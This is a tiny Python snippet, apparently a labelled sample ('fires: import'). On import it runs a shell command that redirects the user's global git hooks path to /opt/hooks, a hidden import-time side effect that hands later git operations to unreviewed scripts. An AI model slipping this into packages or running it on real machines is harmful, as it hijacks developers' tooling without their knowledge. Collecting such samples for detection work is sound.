import os
os.system("git config --global core.hooksPath /opt/hooks")  # fires: import
